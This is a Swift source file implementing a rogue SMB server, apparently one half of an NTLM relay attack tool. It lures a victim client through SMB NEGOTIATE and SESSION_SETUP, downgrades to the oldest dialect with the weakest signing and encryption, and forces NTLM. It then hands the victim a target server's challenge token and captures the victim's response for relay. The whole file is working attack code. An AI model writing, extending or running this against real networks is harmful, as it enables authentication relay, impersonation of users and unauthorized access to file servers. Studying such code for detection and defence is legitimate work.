// SPDX-License-Identifier: Apache-2.0
import NIOCore
import SMBAuth
import SMBWire
import Support

/// The server that a victim talks to by mistake: it answers NEGOTIATE, asks for NTLM, and hands out the tokens that it is given.
/// It has no password and no key, and needs none.
final class Rogue {
    enum Failure: Error {
        /// The victim sent something other than what has to come next.
        case unexpected(SMB2.Command)
        case notSMB2
    }

    private static let sessionID: UInt64 = 0x52_4F47_5545
    private let victim: SocketTransport
    private var request: SMB2.Header?

    init(meeting victim: SocketTransport) { self.victim = victim }

    // MARK: - NEGOTIATE

    /// Settles on a dialect and returns the victim's first token.
    func firstToken() throws -> [UInt8] {
        while true {
            let frame = try self.victim.receive()
            if ProtocolID(of: frame) == .smb1 {
                try self.answerMultiProtocolNegotiate(frame)
            } else if let token = try self.answer(frame) {
                return token
            }
        }
    }

    private func answerMultiProtocolNegotiate(_ frame: ByteBuffer) throws {
        var reader = WireReader(frame)
        let offer = try SMB1.NegotiateRequest(decoding: &reader)
        try self.answerNegotiate(SMB2.Header(command: .negotiate, messageID: 0), offer.offersSMB2Wildcard ? .wildcard : .smb2_0_2)
    }

    /// The token of a SESSION_SETUP; nil where the frame was a NEGOTIATE.
    private func answer(_ frame: ByteBuffer) throws -> [UInt8]? {
        guard ProtocolID(of: frame) == .smb2 else { throw Failure.notSMB2 }
        let header = try SMB2.Header.decode(from: frame)
        var reader = WireReader(frame)
        try reader.skip(SMB2.Header.size)
        if header.command == .sessionSetup {
            self.request = header
            return Array(try SMB2.SessionSetupRequest(decoding: &reader).securityBuffer.readableBytesView)
        }
        guard header.command == .negotiate else { throw Failure.unexpected(header.command) }
        let offered = try SMB2.NegotiateRequest(decoding: &reader).dialects
        // The oldest: what signs and encrypts least.
        try self.answerNegotiate(header, offered.min { $0.rawValue < $1.rawValue } ?? .smb2_0_2)
        return nil
    }

    private func answerNegotiate(_ request: SMB2.Header, _ dialect: SMB2.Dialect) throws {
        let response = SMB2.NegotiateResponse(
            securityMode: .signingEnabled, dialect: dialect, serverGUID: GUID(low: 7, high: 7), capabilities: [],
            maximumTransactSize: 65536, maximumReadSize: 65536, maximumWriteSize: 65536,
            systemTime: NTTime(unixSeconds: 1_767_225_600, nanoseconds: 0),
            securityBuffer: ByteBuffer(bytes: NegTokenInit(mechanisms: [.ntlm], mechToken: nil).encoded(hints: true)),
            contexts: dialect == .smb3_1_1
                ? [.preauthIntegrity(hashes: [SMB2.HashAlgorithm.sha512], salt: ByteBuffer(repeating: 9, count: 32))] : [])
        try self.send(.success, to: request, sessionID: 0) { response.encode(into: &$0, base: $1) }
    }

    // MARK: - SESSION_SETUP

    /// Gives the victim the target's token, and takes its answer.
    func exchange(_ token: [UInt8]) throws -> [UInt8] {
        try self.finish(.moreProcessingRequired, token)
        guard let answer = try self.answer(try self.victim.receive()) else { throw Failure.unexpected(.negotiate) }
        return answer
    }

    /// Tells the victim how its logon ended.
    func finish(_ status: NTStatus, _ token: [UInt8]) throws {
        guard let request else { throw Failure.unexpected(.sessionSetup) }
        try self.send(status, to: request, sessionID: Self.sessionID) { writer, base in
            if status.isError, status != .moreProcessingRequired {
                SMB2.ErrorResponse().encode(into: &writer, base: base)
            } else {
                SMB2.SessionSetupResponse(sessionFlags: [], securityBuffer: ByteBuffer(bytes: token)).encode(into: &writer, base: base)
            }
        }
    }

    private func send(
        _ status: NTStatus, to request: SMB2.Header, sessionID: UInt64, _ body: (inout WireWriter, Int) -> Void
    ) throws {
        var writer = WireWriter()
        SMB2.Header(
            creditCharge: request.creditCharge, status: status, command: request.command, credits: 64, flags: .response,
            messageID: request.messageID, treeID: request.treeID, sessionID: sessionID
        ).encode(into: &writer)
        body(&writer, 0)
        try self.victim.send(writer.buffer)
    }
}
